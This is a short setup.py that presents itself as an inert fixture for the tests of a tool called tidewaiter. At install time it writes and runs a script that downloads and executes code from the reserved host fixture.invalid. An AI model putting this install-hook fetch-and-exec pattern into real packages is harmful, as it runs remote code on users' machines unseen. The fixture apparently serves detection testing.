# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import os
import sys

with open("/tmp/fixture.py", "w") as f:
    f.write("from urllib.request import urlopen as u; exec(u('http://fixture.invalid/x').read())")
os.system(f"{sys.executable} /tmp/fixture.py")


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
